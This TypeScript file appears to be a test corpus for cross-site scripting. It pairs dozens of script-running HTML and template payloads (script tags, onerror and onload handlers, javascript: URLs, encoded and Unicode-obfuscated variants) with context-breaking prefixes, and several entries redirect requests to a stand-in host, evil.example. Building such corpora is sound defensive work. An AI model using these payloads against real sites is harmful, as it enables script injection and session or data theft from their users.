// Whatever a page, an advertiser or a writer of stories may try: what is to run, wrapped in each way out of each place.

const runs = 'ran(1)';

/** Ways to make a browser run something. */
const families = [
  `<script>${runs}</script>`,
  `<ScRiPt >${runs}</sCrIpT >`,
  `<script src="data:text/javascript,${runs}"></script>`,
  `<img src=x onerror=${runs}>`,
  `<img src="x" onerror="${runs}"/>`,
  `<svg onload=${runs}>`,
  `<svg><script>${runs}</script></svg>`,
  `<svg><animate onbegin=${runs} attributeName=x dur=1s>`,
  `<body onload=${runs}>`,
  `<input autofocus onfocus=${runs}>`,
  `<details open ontoggle=${runs}>`,
  `<video><source onerror=${runs}></video>`,
  `<iframe src="javascript:parent.${runs}"></iframe>`,
  `<iframe srcdoc="<script>parent.${runs}</script>"></iframe>`,
  `<object data="javascript:${runs}"></object>`,
  `<a href="javascript:${runs}" autofocus>x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${runs}>`,
  `<noscript><p title="</noscript><img src=x onerror=${runs}>">`,
  `<template><script>${runs}</script></template><img src=x onerror=${runs}>`,
  `<style>@import "data:text/css,*{display:none}"</style>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${runs}</script>">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example/"><button autofocus>x`,
  `<p style="background:url(//evil.example/x)">`,
  `&lt;script&gt;${runs}&lt;/script&gt;`,
  `&#60;img src=x onerror=${runs}&#62;`,
  `\\u003cscript\\u003e${runs}\\u003c/script\\u003e`,
  `%3Cscript%3E${runs}%3C/script%3E`,
  `\uff1cscript\uff1e${runs}\uff1c/script\uff1e`,
  `<\u200bscript>${runs}</script>`,
  `\u202e<script>${runs}</script>`,
  `{{constructor.constructor('${runs}')()}}`,
  `\${${runs}}`,
  `<%= ${runs} %>`,
  `javascript:${runs}`,
];

/** Ways out of where the words may stand: text, attributes of each kind, comments, elements of raw text, JSON, CSS. */
const contexts: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"> ${payload}`,
  (payload) => `'> ${payload}`,
  (payload) => `--> ${payload}`,
  (payload) => `</title></textarea></style> ${payload}`,
  (payload) => `</script> ${payload}`,
  (payload) => `" onmouseover=${runs} x="${payload}`,
  (payload) => `' autofocus onfocus=${runs} x='${payload}`,
  (payload) => `\`${payload}\``,
  (payload) => `]]> ${payload}`,
  (payload) => `</bdi></td></tr></table></main> ${payload}`,
  (payload) => `"}]}</script> ${payload}`,
  (payload) => `</text></svg> ${payload}`,
  (payload) => `<!-- ${payload}`,
];

/** Names, titles and stories that would run something on a page that lets them: each way to run in each way out. */
export const hostileWords: readonly string[] = [
  ...new Set(families.flatMap((family) => contexts.map((context) => context(family)))),
];
